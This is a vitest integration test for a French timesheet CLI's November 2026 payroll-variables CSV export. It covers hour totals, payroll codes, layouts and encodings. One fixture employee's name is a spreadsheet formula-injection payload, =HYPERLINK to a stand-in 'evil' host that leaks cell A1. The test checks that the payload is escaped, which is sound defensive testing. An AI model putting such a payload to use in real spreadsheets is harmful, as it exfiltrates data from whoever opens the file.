// Issue 14: the payroll-variables file (EVP) through the real CLI as a child process, from a real
// SQLite cache synced from the simulator over loopback. A hand-made November 2026 — a part-timer
// with complementary hours and a holiday off, a full-timer with overtime, night and Sunday hours
// and a week of CP, someone whose first week (begun in October) brings overtime and who worked
// 11 November, two people with only a few hours, one with no November hour at all — whose file,
// read back with csv-parse, has for everyone the hours of `export --format json` and of the hand
// computation; the codes of `payroll-codes set`; no line for a zero; a missing matricule stopping
// it all; the wide layout; windows-1252 bytes; a name built as a formula staying text.
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { beforeAll, describe, expect, it } from 'vitest';
import { createSimulator } from '../../main/core/festime/simulator/server';
import { demoSite } from '../../main/core/festime/simulator/demo-site';
import { DEMO_PASSWORD } from '../../main/core/festime/simulator/state';
import type { HolderFigures } from '../../shared/timesheet';
import { pinCliClock, runCli } from '../helpers/cli';

const NOW = new Date('2026-12-03T15:30:00Z');
// The CLI lives at the simulator's time: its sync window must not drift with the calendar.
pinCliClock(NOW);
const MONTH = '2026-11';
const env = { FESTIME_PASSWORD: DEMO_PASSWORD };
const HEADER = ['matricule', 'nom', 'prenom', 'code', 'libelle', 'quantite', 'unite', 'debut', 'fin'];

const PART = { uid: '5001', name: 'TEMPS Anne' };
const FULL = { uid: '5002', name: 'HEURES Bernard' };
const EARLY = { uid: '5003', name: 'FÉRIÉ Cédric' };
const POLISH = { uid: '5004', name: 'KOWALSKI Łukasz' };
const HOSTILE = { uid: '5005', name: '=HYPERLINK("http://evil/?"&A1,"x") Joe' };
const GONE = { uid: '5006', name: 'ANCIEN Paul' };

let dataDir: string;
let base: string[];
const cli = (args: string[]) => runCli([...base, ...args], { env, timeoutMs: 60_000 });

beforeAll(async () => {
  // A site of its own: only the people below punch (the demo's generated staff would need matricules too).
  const sim = createSimulator({
    now: () => NOW,
    accounts: [{ login: 'demo', password: DEMO_PASSWORD, label: 'Atelier des Essais', site: { ...demoSite('demo'), people: [] } }],
  });
  const url = await sim.listen();
  const work = (who: { uid: string; name: string }, day: string, from: string, to: string) => {
    sim.addPunch('demo', { uid: who.uid, type: 'A', at: `${day}T${from}:00`, name: who.name });
    sim.addPunch('demo', { uid: who.uid, type: 'D', at: `${day}T${to}:00`, name: who.name });
  };
  const nov = (d: number) => `2026-11-${String(d).padStart(2, '0')}`;
  // Part-time, 24 h over Monday–Thursday (6 h a day): 7 h a day the week of 2 November (28 h: 4 h
  // beyond the contract, 2.4 h — a tenth — at +10 %, 1.6 h at +25 %), 6 h a day after; 11 November
  // (a Wednesday, a working day of the contract) off: férié chômé, 6 h.
  for (const d of [2, 3, 4, 5]) work(PART, nov(d), '08:00', '15:00');
  for (const d of [9, 10, 12, 16, 17, 18, 19, 23, 24, 25, 26, 30]) work(PART, nov(d), '08:00', '14:00');
  // Full-time 35 h, Monday–Friday: 35 h the week of 26 October (no overtime), 45 h the week of
  // 2 November (8 h at +25 %, 2 h at +50 %), 11 November off (7 h), Sunday 15 November 4 h, CP the
  // week of 16 November (5 × 7 h), Friday 27 November 16:00–23:00 (2 h of night), 30 November 7 h.
  for (const d of ['2026-10-26', '2026-10-27', '2026-10-28', '2026-10-29', '2026-10-30']) work(FULL, d, '08:00', '15:00');
  for (const d of [2, 3, 4, 5, 6]) work(FULL, nov(d), '08:00', '17:00');
  for (const d of [9, 10, 12, 13, 23, 24, 25, 26, 30]) work(FULL, nov(d), '08:00', '15:00');
  work(FULL, nov(15), '10:00', '14:00');
  work(FULL, nov(27), '16:00', '23:00');
  // 45 h from 26 to 30 October: that week ends on 1 November, so its 10 h of overtime are November's
  // while its hours are October's. Then 7 h every working day, 11 November included (a holiday worked).
  for (const d of ['2026-10-26', '2026-10-27', '2026-10-28', '2026-10-29', '2026-10-30']) work(EARLY, d, '08:00', '17:00');
  for (const d of [2, 3, 4, 5, 6, 9, 10, 11, 12, 13, 16, 17, 18, 19, 20, 23, 24, 25, 26, 27, 30]) work(EARLY, nov(d), '08:00', '15:00');
  work(POLISH, nov(16), '08:00', '12:00');
  work(HOSTILE, nov(7), '10:00', '12:00');
  work(GONE, '2026-10-05', '08:00', '12:00');

  dataDir = mkdtempSync(join(tmpdir(), 'festime-evp-'));
  base = ['--server', url, '--login', 'demo', '--data-dir', dataDir];
  expect((await cli(['sync'])).code).toBe(0);
  await sim.close(); // everything below works from the cache alone

  const set = async (args: string[]) => expect((await cli(['employees', 'set', ...args])).stderr).toContain('enregistré');
  await set(['--uid', PART.uid, '--matricule', 'P001', '--contract', 'part-time', '--weekly-hours', '24', '--days', 'mon,tue,wed,thu']);
  await set(['--uid', FULL.uid, '--matricule', 'F002']);
  await set(['--uid', EARLY.uid, '--matricule', 'F003']);
  const cp = await cli(['absences', 'add', '--uid', FULL.uid, '--from', '2026-11-16', '--to', '2026-11-20', '--code', 'CP', '--comment', 'Congés d’automne']);
  expect(cp.code).toBe(0);
}, 180_000);

/** The file's bytes as payroll software gets them: UTF-8 after a BOM, or windows-1252. */
function readEvp(file: string, encoding: 'utf8-bom' | 'windows-1252' = 'utf8-bom'): string[][] {
  const bytes = readFileSync(file);
  if (encoding === 'utf8-bom') expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = encoding === 'utf8-bom' ? bytes.subarray(3).toString('utf8') : iconv.decode(bytes, 'windows-1252');
  return parse(text, { delimiter: ';' }) as string[][];
}

/** "7,50" → 7.5; the file's decimal comma, two decimals always. */
const number = (cell: string) => {
  expect(cell).toMatch(/^-?\d+,\d\d$/);
  return Number(cell.replace(',', '.'));
};

/** matricule → code → hours, from the lines layout. */
function quantities(rows: string[][]): Record<string, Record<string, number>> {
  const out: Record<string, Record<string, number>> = {};
  for (const r of rows.slice(1)) (out[r[0]!] ??= {})[r[3]!] = number(r[5]!);
  return out;
}

const round = (h: number) => Math.round(h * 100) / 100;

/** What the file must hold for a holder, from `export --format json`'s figures and the codes in use. */
function fromFigures(f: HolderFigures, code: (key: string) => string): Record<string, number> {
  const all: [string, number][] = [
    ['normal', round(f.worked - f.overtime25 - f.overtime50 - f.complementary10 - f.complementary25)],
    ['overtime25', f.overtime25],
    ['overtime50', f.overtime50],
    ['complementary10', f.complementary10],
    ['complementary25', f.complementary25],
    ['night', f.night],
    ['sunday', f.sunday],
    ['holidayWorked', round(f.holiday - f.mayFirstWorked)],
    ['mayFirstWorked', f.mayFirstWorked],
    ['holidayOff', f.holidayOff],
    ...Object.entries(f.absences),
  ];
  return Object.fromEntries(all.filter(([, h]) => h !== 0).map(([k, h]) => [code(k), h]));
}

const DEFAULT_CODES: Record<string, string> = {
  normal: 'HN',
  overtime25: 'HS25',
  overtime50: 'HS50',
  complementary10: 'HC10',
  complementary25: 'HC25',
  night: 'HNUIT',
  sunday: 'HDIM',
  holidayWorked: 'HFER',
  mayFirstWorked: 'H1MAI',
  holidayOff: 'FERC',
};

/** The hand computation (see beforeAll), with the default codes. */
const BY_HAND: Record<string, Record<string, number>> = {
  P001: { HN: 96, HC10: 2.4, HC25: 1.6, FERC: 6 },
  F002: { HN: 109, HS25: 8, HS50: 2, HNUIT: 2, HDIM: 4, FERC: 7, CP: 35 },
  F003: { HN: 137, HS25: 8, HS50: 2, HFER: 7 },
  // Only a matricule set: a first contract, full-time Monday–Friday, so 11 November is a holiday off.
  K004: { HN: 4, FERC: 7 },
  H005: { HN: 2, FERC: 7 },
};

describe('export --format evp', () => {
  it('stops, writing nothing, while someone with hours has no matricule: all of them listed (exit 1)', async () => {
    const out = join(dataDir, 'refused.csv');
    const r = await cli(['export', '--month', MONTH, '--format', 'evp', '--out', out]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^festime-desk: Variables de paie non écrites : 2 salarié\(s\) sans matricule \(/);
    expect(r.stderr).toContain('KOWALSKI Łukasz');
    expect(r.stderr).toContain('=HYPERLINK("http://evil/?"&A1,"x") Joe');
    // Someone with no November hour needs none; those with one are not listed.
    for (const name of ['ANCIEN', 'TEMPS', 'HEURES', 'FÉRIÉ']) expect(r.stderr).not.toContain(name);
    expect(existsSync(out)).toBe(false);
    const en = await cli(['--lang', 'en', 'export', '--month', MONTH, '--format', 'evp', '--out', out]);
    expect(en.code).toBe(1);
    expect(en.stderr).toContain('Payroll variables not written: 2 employee(s) without a payroll number (');

    for (const [who, matricule] of [
      [POLISH, 'K004'],
      [HOSTILE, 'H005'],
    ] as const)
      expect((await cli(['employees', 'set', '--uid', who.uid, '--matricule', matricule])).code).toBe(0);
  }, 120_000);

  it('a line per employee and item: the hand computation, and export --format json’s figures, for everyone; no line for a zero', async () => {
    const file = join(dataDir, 'novembre.csv');
    const r = await cli(['export', '--month', MONTH, '--format', 'evp', '--out', file]);
    expect(r.code).toBe(0);
    const rows = readEvp(file);
    const lineCount = Object.values(BY_HAND).reduce((s, q) => s + Object.keys(q).length, 0);
    expect(r.stderr).toContain(`Variables de paie écrites : ${file} (5 salarié(s), ${lineCount} ligne(s) ;`);
    expect(rows[0]).toEqual(HEADER);
    expect(rows).toHaveLength(1 + lineCount);
    expect(quantities(rows)).toEqual(BY_HAND);
    // Zero writes nothing: no 0,00 anywhere; the one with only October hours is absent.
    expect(rows.slice(1).map((l) => l[5])).not.toContain('0,00');
    expect(rows.some((l) => l[1] === 'ANCIEN')).toBe(false);

    const json = await cli(['export', '--month', MONTH, '--format', 'json']);
    expect(json.code).toBe(0);
    const figures = JSON.parse(json.stdout) as HolderFigures[];
    const withHours = figures.filter((f) => Object.keys(fromFigures(f, (k) => DEFAULT_CODES[k] ?? k)).length > 0);
    expect(Object.fromEntries(withHours.map((f) => [f.matricule, fromFigures(f, (k) => DEFAULT_CODES[k] ?? k)]))).toEqual(quantities(rows));

    // Each line: the names as the register has them, the label in French, hours, the month's first and last day.
    for (const f of withHours) {
      const mine = rows.filter((l) => l[0] === f.matricule);
      for (const l of mine) {
        // A text cell starting with = is written with a leading ': text in any spreadsheet.
        expect(l[1]).toBe(f.nom.startsWith('=') ? `'${f.nom}` : f.nom);
        expect(l[2]).toBe(f.prenom);
        expect(l.slice(6)).toEqual(['h', '01/11/2026', '30/11/2026']);
      }
    }
    const label = (m: string, code: string) => rows.find((l) => l[0] === m && l[3] === code)?.[4];
    expect(label('F002', 'HS25')).toBe('Heures supplémentaires à 25 %');
    expect(label('F002', 'CP')).toBe('Congés payés');
    expect(label('F002', 'FERC')).toBe('Jours fériés chômés');
    expect(label('F003', 'HFER')).toBe('Heures de jour férié travaillé');
    expect(label('P001', 'HC10')).toBe('Heures complémentaires à 10 %');
    expect(rows.find((l) => l[0] === 'H005')![1]).toBe('\'=HYPERLINK("http://evil/?"&A1,"x")');
    // The file's own bytes: the quoted cell, its quotes doubled; lines end in CRLF.
    const raw = readFileSync(file, 'utf8');
    expect(raw).toContain('H005;"\'=HYPERLINK(""http://evil/?""&A1,""x"")";Joe;HN;Heures normales;2,00;h;01/11/2026;30/11/2026\r\n');
    expect(raw).toContain('P001;TEMPS;Anne;HC10;Heures complémentaires à 10 %;2,40;h;01/11/2026;30/11/2026\r\n');

    // In English, the labels are English; the figures the same.
    const en = join(dataDir, 'november.csv');
    expect((await cli(['--lang', 'en', 'export', '--month', MONTH, '--format', 'evp', '--out', en])).code).toBe(0);
    const enRows = readEvp(en);
    expect(quantities(enRows)).toEqual(BY_HAND);
    expect(enRows.find((l) => l[0] === 'F002' && l[3] === 'HS25')![4]).toBe('Overtime at 25%');
    expect(enRows.find((l) => l[0] === 'F002' && l[3] === 'CP')![4]).toBe('Paid leave');
  }, 180_000);

  it('the default file name: Festime_<site>_<month>_variables-paie.csv', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'festime-evp-cwd-'));
    const r = await runCli([...base, 'export', '--month', MONTH, '--format', 'evp'], { env, cwd, timeoutMs: 60_000 });
    expect(r.code).toBe(0);
    const [line] = r.stderr.split('\n');
    const name = /Variables de paie écrites : (\S+) /.exec(line!)![1]!;
    expect(name).toMatch(/^Festime_[A-Za-z0-9-]+_2026-11_variables-paie\.csv$/);
    expect(quantities(readEvp(join(cwd, name)))).toEqual(BY_HAND);
  }, 60_000);

  it('payroll-codes set: the file follows the codes; a wrong key, code or a code twice is refused by name, nothing saved (exit 2)', async () => {
    const set = await cli(['payroll-codes', 'set', 'overtime25=HS125', 'cp=CONGES']);
    expect(set.code).toBe(0);
    expect(set.stderr).toContain('Codes de paie enregistrés.');
    expect(set.stderr).toContain('overtime25 (Heures supplémentaires à 25 %) : HS125');
    expect(set.stderr).toContain('CP (Congés payés) : CONGES');

    const listed = JSON.parse((await cli(['payroll-codes', 'list', '--format', 'json'])).stdout) as {
      encoding: string;
      codes: { key: string; label: string; code: string; default: string }[];
    };
    expect(listed.encoding).toBe('utf8-bom');
    expect(listed.codes.find((c) => c.key === 'overtime25')).toEqual({
      key: 'overtime25',
      label: 'Heures supplémentaires à 25 %',
      code: 'HS125',
      default: 'HS25',
    });
    expect(listed.codes.find((c) => c.key === 'CP')).toEqual({ key: 'CP', label: 'Congés payés', code: 'CONGES', default: 'CP' });
    expect(listed.codes.map((c) => c.key)).toEqual([...Object.keys(DEFAULT_CODES), 'CP', 'RTT', 'MAL', 'AT', 'MAT', 'CSS', 'ABS', 'FOR', 'EVT']);
    const table = await cli(['payroll-codes', 'list']);
    expect(table.stdout).toMatch(/overtime25\s+Heures supplémentaires à 25 %\s+HS125\s+HS25/);
    expect(table.stdout).toMatch(/overtime50\s+Heures supplémentaires à 50 %\s+HS50\n/);
    expect(table.stderr).toContain('Encodage du fichier de variables de paie : utf8-bom');

    const file = join(dataDir, 'codes.csv');
    expect((await cli(['export', '--month', MONTH, '--format', 'evp', '--out', file])).code).toBe(0);
    const renamed = (q: Record<string, number>) =>
      Object.fromEntries(Object.entries(q).map(([c, h]) => [c === 'HS25' ? 'HS125' : c === 'CP' ? 'CONGES' : c, h]));
    expect(quantities(readEvp(file))).toEqual(Object.fromEntries(Object.entries(BY_HAND).map(([m, q]) => [m, renamed(q)])));

    // Each beside a good change (sunday=DIM): refused whole.
    const refusals: [string[], string][] = [
      [['sunday=DIM', 'night=HS125'], 'Le champ « Codes de paie » : le code de paie HS125 serait celui de overtime25 et de night.'],
      [['sunday=DIM', 'night=hs125'], 'le code de paie hs125 serait celui de overtime25 et de night'],
      [['sunday=DIM', 'night=H NUIT'], 'Le champ « Codes de paie » : le code « H NUIT » donné à night n’est pas accepté'],
      [['sunday=DIM', 'night=-HN'], 'le code « -HN » donné à night n’est pas accepté'],
      [['sunday=DIM', 'night=' + 'N'.repeat(21)], 'n’est pas accepté (1 à 20 lettres sans accent'],
      [['sunday=DIM', 'bonus=PRIME'], 'Le champ « Codes de paie » : « bonus » n’est ni une rubrique ni un code d’absence (attendus : normal, overtime25,'],
      [['sunday=DIM', 'night'], '« night » : attendu CLÉ=CODE'],
      [['sunday=DIM', '=HN'], '« =HN » : attendu CLÉ=CODE'],
      [['sunday=DIM', '--encoding', 'latin1'], '--encoding attend l’une de ces valeurs : utf8-bom, windows-1252 (reçu « latin1 »)'],
      [[], 'Rien à changer : donnez CLÉ=CODE'],
    ];
    for (const [args, message] of refusals) {
      const r = await cli(['payroll-codes', 'set', ...args]);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr, args.join(' ')).toContain(message);
    }
    const en = await cli(['--lang', 'en', 'payroll-codes', 'set', 'night=HS125']);
    expect(en.code).toBe(2);
    expect(en.stderr).toContain('The “Payroll codes” field: payroll code HS125 would belong to both overtime25 and night.');
    const enBad = await cli(['--lang', 'en', 'payroll-codes', 'set', 'night=H NUIT']);
    expect(enBad.stderr).toContain('The “Payroll codes” field: the code “H NUIT” given to night is not accepted');
    const after = JSON.parse((await cli(['payroll-codes', 'list', '--format', 'json'])).stdout) as typeof listed;
    expect(after).toEqual(listed);

    // KEY= goes back to the default.
    expect((await cli(['payroll-codes', 'set', 'overtime25=', 'CP='])).code).toBe(0);
    expect((await cli(['export', '--month', MONTH, '--format', 'evp', '--out', file])).code).toBe(0);
    expect(quantities(readEvp(file))).toEqual(BY_HAND);
  }, 240_000);

  it('--layout wide: a line per employee, a column per payroll code any of them has', async () => {
    const file = join(dataDir, 'wide.csv');
    const r = await cli(['export', '--month', MONTH, '--format', 'evp', '--layout', 'wide', '--out', file]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('(5 salarié(s), 5 ligne(s) ;');
    const [head, ...rows] = readEvp(file);
    // The items' order, then the absence codes; H1MAI (no 1 May in November) and the rest at zero left out.
    expect(head).toEqual(['matricule', 'nom', 'prenom', 'debut', 'fin', 'HN', 'HS25', 'HS50', 'HC10', 'HC25', 'HNUIT', 'HDIM', 'HFER', 'FERC', 'CP']);
    expect(rows).toHaveLength(5);
    const grid = Object.fromEntries(
      rows.map((row) => {
        expect(row.slice(3, 5)).toEqual(['01/11/2026', '30/11/2026']);
        // An empty cell where the employee has none (no 0,00).
        return [row[0], Object.fromEntries(head!.slice(5).flatMap((code, i) => (row[5 + i] === '' ? [] : [[code, number(row[5 + i]!)]])))];
      }),
    );
    expect(grid).toEqual(BY_HAND);
    expect(rows.find((row) => row[0] === 'P001')!.slice(1, 3)).toEqual(['TEMPS', 'Anne']);
  }, 60_000);

  it('windows-1252: é is the byte 0xE9, no BOM; a name it cannot hold is written with its nearest letters and said', async () => {
    const set = await cli(['payroll-codes', 'set', '--encoding', 'windows-1252']);
    expect(set.code).toBe(0);
    expect(set.stderr).toContain('Encodage du fichier de variables de paie : windows-1252');
    const file = join(dataDir, 'cp1252.csv');
    const r = await cli(['export', '--month', MONTH, '--format', 'evp', '--out', file]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('windows-1252 ne peut pas écrire « KOWALSKI Łukasz » tel quel : écrit « KOWALSKI Lukasz ».');
    const bytes = readFileSync(file);
    expect([...bytes.subarray(0, 9)]).toEqual([...Buffer.from('matricule')]);
    // "Heures complémentaires": é as 0xE9; "FÉRIÉ": É as 0xC9; never UTF-8's two bytes.
    expect(bytes.includes(Buffer.from('Heures compl\xe9mentaires', 'latin1'))).toBe(true);
    expect(bytes.includes(Buffer.from('F\xc9RI\xc9;C\xe9dric', 'latin1'))).toBe(true);
    expect(bytes.includes(Buffer.from('é', 'utf8'))).toBe(false);
    const rows = readEvp(file, 'windows-1252');
    expect(quantities(rows)).toEqual(BY_HAND);
    expect(rows.find((l) => l[0] === 'K004')!.slice(1, 3)).toEqual(['KOWALSKI', 'Lukasz']);
    expect(rows.find((l) => l[0] === 'F002' && l[3] === 'HS25')![4]).toBe('Heures supplémentaires à 25 %');

    // A matricule is never altered: one windows-1252 lacks stops the file, said plainly.
    // Dated from November's first day: a change dated today would not reach a month already over.
    expect((await cli(['employees', 'set', '--uid', POLISH.uid, '--matricule', 'Ł004', '--from', '2026-11-01'])).code).toBe(0);
    const refused = await cli(['export', '--month', MONTH, '--format', 'evp', '--out', join(dataDir, 'refused-1252.csv')]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('le matricule « Ł004 » (KOWALSKI Łukasz) contient « Ł » (U+0141), que l’encodage windows-1252 ne peut pas écrire');
    expect(existsSync(join(dataDir, 'refused-1252.csv'))).toBe(false);
    expect((await cli(['payroll-codes', 'set', '--encoding', 'utf8-bom'])).code).toBe(0);
    const utf8 = join(dataDir, 'utf8-again.csv');
    expect((await cli(['export', '--month', MONTH, '--format', 'evp', '--out', utf8])).code).toBe(0);
    expect(
      readEvp(utf8)
        .find((l) => l[0] === 'Ł004')!
        .slice(1, 3),
    ).toEqual(['KOWALSKI', 'Łukasz']);
  }, 180_000);
});
